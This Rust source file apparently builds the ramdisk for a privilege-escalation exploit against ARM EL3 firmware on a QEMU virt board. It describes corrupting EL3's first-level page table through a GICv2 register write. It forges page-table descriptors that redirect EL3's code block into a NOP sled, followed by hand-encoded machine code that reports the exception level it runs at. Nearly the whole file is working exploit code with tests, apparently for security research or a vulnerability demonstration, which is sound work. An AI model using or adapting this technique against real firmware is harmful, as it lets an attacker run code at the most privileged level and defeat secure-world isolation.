//! The ramdisk of an attack on EL3's page tables, for machines with RAM up to 4 GiB.
//!
//! A GICv2 whose distributor seems to lie just below EL3's first-level table makes a write of all
//! ones to `GICD_ICENABLER0` change the low half of the first entry there. That becomes the
//! descriptor of a table at 0xffff_f000, in normal RAM: the last page of this ramdisk. The entries
//! map everything to itself, but for the block of EL3's code, which is led to the ramdisk: to many
//! `nop`s, and code behind them that says at which exception level it runs. Their `NS` is 0, so
//! that `SCR_EL3.SIF` does not forbid the fetch.

use boards::QEMU_VIRT;
use phys_range::MIB;

/// What the code says, before the number of the level.
pub const MARKER: &str = "the ramdisk runs at EL";

/// A ramdisk, and where the FIT would like it to be.
pub struct Ramdisk {
    /// Its bytes.
    pub bytes: Vec<u8>,
    /// Its address.
    pub address: u32,
}

/// The size of a block of second-level tables with granules of 4 KiB (DDI0487, D8.2).
const BLOCK_BYTES: u64 = 2 * MIB;
/// The page table is in the last page of the block below 4 GiB.
const ADDRESS: u64 = (1 << 32) - BLOCK_BYTES;
const TABLE_BYTES: usize = 4096;
/// Room for the code, just below the table.
const CODE_BYTES: usize = 256;

const NOP: u32 = 0xd503_201f;
/// Attributes of block descriptors (DDI0487, D8.3): executable and read-only, and data, both normal
/// memory of index 1; devices of index 0.
const CODE: u64 = 0x7c5;
const DATA: u64 = 1 << 54 | 0x745;
const DEVICE: u64 = 1 << 54 | 0x441;

/// Writes [`MARKER`] and the level to the PL011 at 0x0900_0000, the level to the secure RAM at
/// 0x0ec0_0000 as well, and stays there.
const PROGRAM: [u32; 18] = [
    0xd2a1_2000, // movz x0, #0x0900, lsl #16
    0x1000_0221, // adr  x1, text
    0x3840_1422, // ldrb w2, [x1], #1
    0x3400_0062, // cbz  w2, . + 12
    0xb900_0002, // str  w2, [x0]
    0x17ff_fffd, // b    . - 12
    0xd538_4244, // mrs  x4, CurrentEL
    0x5302_7c82, // lsr  w2, w4, #2
    0x1100_c042, // add  w2, w2, #'0'
    0xb900_0002, // str  w2, [x0]
    0x5280_0142, // movz w2, #'\n'
    0xb900_0002, // str  w2, [x0]
    0xd2a1_d803, // movz x3, #0x0ec0, lsl #16
    0xf900_0064, // str  x4, [x3]
    0xd503_3f9f, // dsb  sy
    0xd503_207f, // wfi
    0x17ff_ffff, // b    . - 4
    NOP,         // the text follows
];

/// The ramdisk with table and code.
pub fn ramdisk() -> Ramdisk {
    let nops = (BLOCK_BYTES as usize - TABLE_BYTES - CODE_BYTES) / size_of::<u32>();
    let mut bytes: Vec<u8> = vec![NOP.to_le_bytes(); nops].into_flattened();
    bytes.extend(PROGRAM.map(u32::to_le_bytes).as_flattened());
    bytes.extend(MARKER.bytes());
    bytes.resize(BLOCK_BYTES as usize - TABLE_BYTES, 0);
    let entries = (0..QEMU_VIRT.ram.start()).step_by(BLOCK_BYTES as usize).map(entry);
    bytes.extend(entries.flat_map(u64::to_le_bytes));
    Ramdisk {
        bytes,
        address: ADDRESS as u32,
    }
}

/// The descriptor of the block at `address`.
fn entry(address: u64) -> u64 {
    let in_block = |range: phys_range::PhysRange| (range.start()..range.end()).contains(&address);
    match address {
        _ if in_block(QEMU_VIRT.secure.code) => ADDRESS | CODE,
        _ if in_block(QEMU_VIRT.secure.all()) => address | DATA,
        _ if in_block(QEMU_VIRT.flash) => address | CODE,
        _ => address | DEVICE,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_table_is_the_last_page_and_leads_code_to_the_ramdisk() {
        let Ramdisk { bytes, address } = ramdisk();
        assert_eq!(u64::from(address) + bytes.len() as u64, 1 << 32);
        let table = &bytes[bytes.len() - TABLE_BYTES..];
        let entry = |address: u64| {
            let offset = (address / BLOCK_BYTES) as usize * 8;
            u64::from_le_bytes(table[offset..][..8].try_into().unwrap())
        };
        assert_eq!(entry(0x0e00_0000), 0xffe0_07c5);
        assert_eq!(entry(0x0e20_0000), 0x0040_0000_0e20_0745);
        assert_eq!(entry(0x0900_0000), 0x0040_0000_0900_0441);
        assert_eq!(entry(0), 0x7c5);
    }

    #[test]
    fn the_code_finds_its_text() {
        // `adr x1, text` is the second instruction; its distance is in bits 23:5, in words.
        let distance = (PROGRAM[1] >> 5 & 0x7_ffff) as usize * 4;
        assert_eq!(4 + distance, size_of_val(&PROGRAM));
        assert!(size_of_val(&PROGRAM) + MARKER.len() < CODE_BYTES);
    }
}
